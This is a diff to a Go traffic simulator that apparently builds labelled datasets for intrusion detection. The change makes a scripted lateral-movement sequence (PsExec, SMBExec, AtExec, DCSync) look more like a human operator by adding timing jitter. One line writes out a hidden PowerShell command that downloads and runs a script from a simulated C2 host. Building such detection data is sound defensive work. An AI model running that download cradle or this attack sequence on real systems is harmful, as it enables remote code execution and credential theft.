@@ -85,16 +85,19 @@ func (p *plan) attack() {
 	l.HardNegative = append(l.HardNegative, Pair{Src: wh.addr.String(), Dst: widget.addr.String(), Port: 443, Name: widget.name,
 		Interval: 120, Note: "benign widget refresh, one host, no jitter"})
 
-	a := &intrusion{p: p, src: zero, acct: account{nbDomain, "svc_backup", zero.name}}
+	// The operator works through the steps by hand: minutes apart, at no
+	// round second. The same implant is copied to every target.
+	a := &intrusion{p: p, src: zero, acct: account{nbDomain, "svc_backup", zero.name}, tool: toolBinary(p.r)}
 	t := start.Add(d / 2)
-	a.recon(n.dc, t, true)
-	a.recon(n.fs, t.Add(2*time.Minute), false)
-	a.psexec(psA, t.Add(5*time.Minute))
-	a.psexec(psB, t.Add(9*time.Minute))
-	a.smbexec(n.fs, t.Add(14*time.Minute), "whoami /all")
-	a.atexec(at, t.Add(18*time.Minute), "powershell.exe",
+	at0 := func(minutes float64) time.Time { return t.Add(secs(minutes*60 + p.r.uniform(2, 40))) }
+	a.recon(n.dc, at0(0), true)
+	a.recon(n.fs, at0(2), false)
+	a.psexec(psA, at0(5))
+	a.psexec(psB, at0(9))
+	a.smbexec(n.fs, at0(14), "whoami /all")
+	a.atexec(at, at0(18), "powershell.exe",
 		`-NoP -NonI -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Fast.name+`/s.ps1')"`)
-	a.dcsync(t.Add(25 * time.Minute))
+	a.dcsync(at0(25))
 	for _, lp := range []struct {
 		h    *host
 		port int
@@ -109,6 +112,7 @@ type intrusion struct {
 	p    *plan
 	src  *host
 	acct account
+	tool []byte // the service binary copied to the targets
 }
 
 func (a *intrusion) op(o Operation, at time.Time, dst *host, step string) {
@@ -266,7 +270,7 @@ func (a *intrusion) psexec(dst *host, t time.Time) {
 		admin := `\\` + dst.name + `\ADMIN$`
 		tree, at := s.treeConnect(admin, shareDisk, maxAccessAdmin)
 		a.op(Operation{Kind: "tree", Interface: "smb", Operation: "tree connect", Target: admin, Technique: "T1021.002"}, at, dst, step)
-		bin := toolBinary(r)
+		bin := a.tool
 		fid := s.open(tree, toolName, accessGenericRW, attrNormal, 0, dispOverwriteIf, optNonDirectory, actionCreated, 0)
 		at = s.write(tree, fid, bin)
 		s.close(tree, fid)
@@ -354,7 +358,7 @@ func (a *intrusion) dcsync(t time.Time) {
 		c.wait(time.Millisecond)
 		c.close(0)
 	})
-	t2 := t.Add(time.Second)
+	t2 := t.Add(secs(p.r.uniform(0.2, 1.5)))
 	p.add(t2, func(out *[]packet, r *rng) {
 		c := newTCP(out, r, t2, a.src.node, dc.node, drsCport, drsPort, lanRTT(r), lanRate)
 		c.handshake()
